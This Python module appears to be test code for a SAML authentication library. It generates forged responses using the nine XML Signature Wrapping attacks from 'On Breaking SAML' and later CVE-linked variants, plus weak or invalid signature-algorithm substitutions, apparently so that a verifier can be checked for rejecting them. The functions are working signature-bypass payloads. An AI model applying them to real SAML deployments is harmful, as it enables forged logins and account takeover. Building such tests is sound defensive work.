"""Ways to put something forged beside, around or into what was signed: the nine of the literature, and later ones.

Each takes the root of a genuine answer and returns a document; the numbers are those of "On Breaking SAML" (2012) and
of the tools made after it.
"""

from __future__ import annotations

from copy import deepcopy
from typing import TYPE_CHECKING, Final

from lxml import etree

from authflow.adapters.providers.saml.xml import name

if TYPE_CHECKING:
    from collections.abc import Callable

    from authflow.adapters.providers.saml.xml import Element

SIGNATURE: Final = name("ds", "Signature")
ASSERTION: Final = name("saml", "Assertion")


def assertion_of(root: Element) -> Element:
    found = root.find(ASSERTION)
    assert found is not None
    return found


def without_signature(element: Element) -> Element:
    """Return a copy of *element* without its own signature."""
    copy = deepcopy(element)
    for signature in copy.findall(SIGNATURE):
        copy.remove(signature)
    return copy


def forged(element: Element, identifier: str = "_forged") -> Element:
    """Return a copy of *element* that says something else, under another id, signed nowhere."""
    copy = without_signature(element)
    copy.set("ID", identifier)
    for value in copy.iter(name("saml", "AttributeValue"), name("saml", "NameID")):
        value.text = f"mallory-{value.text}"
    return copy


def signature_of(element: Element) -> Element:
    """Return the signature of *element*, or if it has none of its own, the first of its document."""
    found = element.find(SIGNATURE)
    return next(element.getroottree().getroot().iter(SIGNATURE)) if found is None else found


# --- of a signed response -------------------------------------------------------------------------------------------


def _evil_response(root: Element) -> tuple[Element, Element, Element]:
    """Return a forged response, the signature of the genuine one, and the genuine one without it."""
    evil = forged(root)
    for inner in evil.iter(ASSERTION):
        inner.set("ID", "_forged-assertion")
    return evil, deepcopy(signature_of(root)), without_signature(root)


def xsw1(root: Element) -> Element:
    """The genuine response inside the signature of the forged one."""
    evil, signature, original = _evil_response(root)
    evil.insert(1, signature)
    signature.append(original)
    return evil


def xsw2(root: Element) -> Element:
    """The genuine response before the signature, both in the forged one."""
    evil, signature, original = _evil_response(root)
    evil.insert(1, original)
    evil.insert(2, signature)
    return evil


# --- of a signed assertion ------------------------------------------------------------------------------------------


def xsw3(root: Element) -> Element:
    """A forged assertion before the genuine one."""
    genuine = assertion_of(root)
    genuine.addprevious(forged(genuine))
    return root


def xsw4(root: Element) -> Element:
    """The genuine assertion inside the forged one."""
    genuine = assertion_of(root)
    evil = forged(genuine)
    root.replace(genuine, evil)
    evil.append(genuine)
    return root


def xsw5(root: Element) -> Element:
    """The forged assertion has the signature; the genuine one is at the end."""
    genuine = assertion_of(root)
    evil, original = forged(genuine), without_signature(genuine)
    evil.insert(1, deepcopy(signature_of(genuine)))
    root.replace(genuine, evil)
    root.append(original)
    return root


def xsw6(root: Element) -> Element:
    """The forged assertion has the signature, which has the genuine one."""
    genuine = assertion_of(root)
    evil, signature = forged(genuine), deepcopy(signature_of(genuine))
    signature.append(without_signature(genuine))
    evil.insert(1, signature)
    root.replace(genuine, evil)
    return root


def xsw7(root: Element) -> Element:
    """The forged assertion in extensions."""
    extensions = etree.Element(name("samlp", "Extensions"))
    extensions.append(forged(assertion_of(root)))
    root.insert(1, extensions)
    return root


def xsw8(root: Element) -> Element:
    """The genuine assertion in an object of the signature of the forged one."""
    genuine = assertion_of(root)
    evil, signature = forged(genuine), deepcopy(signature_of(genuine))
    etree.SubElement(signature, name("ds", "Object")).append(without_signature(genuine))
    evil.insert(1, signature)
    root.replace(genuine, evil)
    return root


def xsw9(root: Element) -> Element:
    """The genuine assertion, with its signature, in the detail of the status; a forged one in its place."""
    genuine = assertion_of(root)
    root.replace(genuine, forged(genuine))
    status = root.find(name("samlp", "Status"))
    assert status is not None
    etree.SubElement(status, name("samlp", "StatusDetail")).append(genuine)
    return root


# --- since then -----------------------------------------------------------------------------------------------------


def in_advice(root: Element) -> Element:
    """The genuine assertion as advice of the forged one."""
    genuine = assertion_of(root)
    evil = forged(genuine)
    root.replace(genuine, evil)
    etree.SubElement(evil, name("saml", "Advice")).append(genuine)
    return root


def same_id(root: Element) -> Element:
    """A forged assertion under the id of the genuine one (CVE-2022-41912)."""
    genuine = assertion_of(root)
    genuine.addprevious(forged(genuine, genuine.get("ID", "")))
    return root


def same_id_behind(root: Element) -> Element:
    """Likewise, behind it."""
    genuine = assertion_of(root)
    genuine.addnext(forged(genuine, genuine.get("ID", "")))
    return root


def xml_id(root: Element) -> Element:
    """The genuine assertion found by xml:id, which parsers know by themselves, and a forged one by its ID."""
    genuine = assertion_of(root)
    evil = forged(genuine, genuine.get("ID", ""))
    evil.insert(1, deepcopy(signature_of(genuine)))
    hidden = etree.SubElement(root, name("samlp", "Extensions"))
    hidden.set("{http://www.w3.org/XML/1998/namespace}id", genuine.get("ID", ""))
    root.replace(genuine, evil)
    return root


def second_digest(root: Element) -> Element:
    """A digest of the forged assertion, where a search for any digest finds it first (CVE-2024-45409)."""
    status = root.find(name("samlp", "Status"))
    assert status is not None
    detail = etree.SubElement(status, name("samlp", "StatusDetail"))
    etree.SubElement(detail, name("ds", "DigestValue")).text = "AAAA"
    for value in assertion_of(root).iter(name("saml", "AttributeValue")):
        value.text = f"mallory-{value.text}"
    return root


def second_signed_info(root: Element) -> Element:
    """Two SignedInfo, the first with another digest (CVE-2025-29775)."""
    info = next(root.iter(name("ds", "SignedInfo")))
    copy = deepcopy(info)
    next(copy.iter(name("ds", "DigestValue"))).text = "AAAA"
    info.addprevious(copy)
    return root


def hidden_signed_info(root: Element) -> Element:
    """A second SignedInfo where only a search by name finds it."""
    info = next(root.iter(name("ds", "SignedInfo")))
    assertion_of(root).append(deepcopy(info))
    return root


def _in_detail(part: Element, root: Element) -> Element:
    status = root.find(name("samlp", "Status"))
    assert status is not None
    etree.SubElement(status, name("samlp", "StatusDetail")).append(deepcopy(part))
    return root


def stray_signature(root: Element) -> Element:
    """A second signature where nothing is signed."""
    return _in_detail(signature_of(assertion_of(root)), root)


def stray_signed_info(root: Element) -> Element:
    """Half a signature there (CVE-2025-29775)."""
    return _in_detail(next(root.iter(name("ds", "SignedInfo"))), root)


def two_references(root: Element) -> Element:
    """A second reference, to everything."""
    reference = next(root.iter(name("ds", "Reference")))
    copy = deepcopy(reference)
    copy.set("URI", "")
    reference.addnext(copy)
    return root


def everything(root: Element) -> Element:
    """The reference is to the whole document."""
    next(root.iter(name("ds", "Reference"))).set("URI", "")
    return root


def xpointer(root: Element) -> Element:
    """The reference is to what an expression finds."""
    reference = next(root.iter(name("ds", "Reference")))
    reference.set("URI", f"#xpointer(id('{reference.get('URI', '')[1:]}'))")
    return root


def void(root: Element) -> Element:
    """A namespace that makes canonicalization fail, so that nothing is digested (CVE-2025-66568)."""
    genuine = assertion_of(root)
    etree.SubElement(genuine, "{relative}void", nsmap={"v": "relative"})
    return root


def two_signatures(root: Element) -> Element:
    """The signature twice: which of them counts?"""
    signature = next(root.iter(SIGNATURE))
    signature.addnext(deepcopy(signature))
    return root


def no_digest(root: Element) -> Element:
    next(root.iter(name("ds", "DigestValue"))).text = "*"
    return root


def odd_prefixes(root: Element) -> Element:
    """A parameter of the canonicalization that it does not have."""
    transform = list(root.iter(name("ds", "Transform")))[1]
    listed = etree.SubElement(transform, "{http://www.w3.org/2001/10/xml-exc-c14n#}InclusiveNamespaces")
    listed.set("Other", "a")
    return root


def no_signature(root: Element) -> Element:
    for signature in list(root.iter(SIGNATURE)):
        signature.getparent().remove(signature)  # type: ignore[union-attr]  # every one has a parent
    return root


def wrong_place(root: Element) -> Element:
    """The signature of the assertion below its subject."""
    signature = next(root.iter(SIGNATURE))
    next(root.iter(name("saml", "Subject"))).append(signature)
    return root


def _replaced(path: str, value: str) -> Callable[[Element], Element]:
    def attack(root: Element) -> Element:
        next(root.iter(name("ds", path))).set("Algorithm", value)
        return root

    return attack


OF_RESPONSES: Final = (xsw1, xsw2)
OF_ASSERTIONS: Final = (
    *(xsw3, xsw4, xsw5, xsw6, xsw7, xsw8, xsw9, in_advice, same_id, same_id_behind, xml_id, second_digest),
    *(
        second_signed_info,
        hidden_signed_info,
        stray_signature,
        stray_signed_info,
        two_references,
        everything,
        xpointer,
        void,
        no_signature,
        wrong_place,
    ),
)

ALGORITHMS: Final = {
    f"{part}={value.rpartition('/')[2]}": _replaced(part, value)
    for part, values in {
        "SignatureMethod": (
            "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
            "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
            "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
            "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
            "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
            "",
        ),
        "DigestMethod": ("http://www.w3.org/2000/09/xmldsig#sha1", "http://www.w3.org/2001/04/xmldsig-more#md5", ""),
        "CanonicalizationMethod": (
            "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
            "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
            "",
        ),
        "Transform": (
            "http://www.w3.org/2001/10/xml-exc-c14n#",
            "http://www.w3.org/TR/1999/REC-xslt-19991116",
            "http://www.w3.org/TR/1999/REC-xpath-19991116",
            "http://www.w3.org/2002/06/xmldsig-filter2",
            "http://www.w3.org/2000/09/xmldsig#base64",
        ),
    }.items()
    for value in values
}
"""Every place that names an algorithm, with every one that must not be believed."""
